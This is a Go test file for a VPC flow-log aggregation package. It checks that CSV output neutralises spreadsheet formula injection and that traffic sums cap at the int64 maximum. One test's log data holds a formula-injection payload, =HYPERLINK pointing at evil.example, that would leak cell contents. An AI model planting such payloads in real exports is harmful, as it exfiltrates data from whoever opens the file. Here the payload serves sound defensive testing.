package flowtable_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"math"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/asecurityteam/vpcflow-grapherd/pkg/flowlog"
	"github.com/asecurityteam/vpcflow-grapherd/pkg/flowtable"
)

// TestCSVCellsAreNotFormulas reads flow-log lines whose account and
// interface ids start as spreadsheet formulas do (=HYPERLINK(…), @SUM(…)),
// as whoever writes a flow log may choose them, and writes their CSV views
// grouped by account and by interface, where those ids are the nodes'
// keys: no source or target cell starts a formula (each has a ' before
// it), where the ids were written as they were (found in review), and the
// cells still read as the ids.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	t.Parallel()
	const logs = "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status\n" +
		`2 =HYPERLINK("http://evil.example/?"&A1) @SUM(1+1) 10.0.0.1 198.51.100.7 443 51000 6 10 8000 1600000000 1600000060 ACCEPT OK` + "\n" +
		`2 =HYPERLINK("http://evil.example/?"&A1) @SUM(1+1) 198.51.100.7 10.0.0.1 51000 443 6 10 8000 1600000000 1600000060 ACCEPT OK` + "\n"
	open := func() (flowtable.Source, io.Closer, error) {
		r, err := flowlog.NewReader(strings.NewReader(logs))
		return r, io.NopCloser(nil), err
	}
	for _, kind := range []flowtable.GroupKind{flowtable.GroupAccount, flowtable.GroupENI} {
		v, err := flowtable.Aggregate(context.Background(), open,
			flowtable.Params{Format: flowtable.FormatCSV, Group: flowtable.Group{Kind: kind}}, flowtable.Limits{})
		require.NoError(t, err)
		require.NotEmpty(t, v.Edges, "the records are read")
		var out bytes.Buffer
		require.NoError(t, flowtable.WriteCSV(&out, v))
		rows, err := csv.NewReader(&out).ReadAll()
		require.NoError(t, err)
		for _, row := range rows[1:] {
			for _, cell := range row[:2] {
				require.False(t, cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])),
					"group %v: CSV cell %q starts a spreadsheet formula", kind, cell)
				require.Contains(t, []string{`'=HYPERLINK("http://evil.example/?"&A1)`, "'@SUM(1+1)", "10.0.0.1", "198.51.100.7"}, cell)
			}
		}
	}
}

// TestSumsCappedNotWrapped aggregates flows that each claim 2^63-1 bytes
// and packets, as a flow log may: an edge's sums, and a node's bytes out
// over two such edges, stay at 2^63-1, where they wrapped round to a
// negative count and top ranked the busiest edge last (found in review).
func TestSumsCappedNotWrapped(t *testing.T) {
	t.Parallel()
	const max = "9223372036854775807"
	line := func(dst string) string {
		return "2 123456789012 eni-1 10.0.0.1 " + dst + " 443 51000 6 " + max + " " + max + " 1600000000 1600000060 ACCEPT OK\n"
	}
	logs := line("10.0.0.2") + line("10.0.0.2") + line("10.0.0.3") + "2 123456789012 eni-1 10.0.0.4 10.0.0.5 443 51000 6 1 100 1600000000 1600000060 ACCEPT OK\n"
	open := func() (flowtable.Source, io.Closer, error) {
		r, err := flowlog.NewReader(strings.NewReader(logs))
		return r, io.NopCloser(nil), err
	}
	v, err := flowtable.Aggregate(context.Background(), open, flowtable.Params{Format: flowtable.FormatJSON, Top: 1}, flowtable.Limits{})
	require.NoError(t, err)
	require.Len(t, v.Edges, 1)
	e := v.Edges[0]
	require.EqualValues(t, math.MaxInt64, e.Bytes, "the busiest edge is the one of two flows of 2^63-1 bytes")
	require.EqualValues(t, math.MaxInt64, e.Packets)
	require.Equal(t, "10.0.0.2", v.Nodes[e.Target].Key)

	v, err = flowtable.Aggregate(context.Background(), open, flowtable.Params{Format: flowtable.FormatJSON}, flowtable.Limits{})
	require.NoError(t, err)
	for _, n := range v.Nodes {
		require.GreaterOrEqual(t, n.BytesOut, int64(0), "node %s", n.Key)
		if n.Key == "10.0.0.1" {
			require.EqualValues(t, math.MaxInt64, n.BytesOut)
		}
	}
}
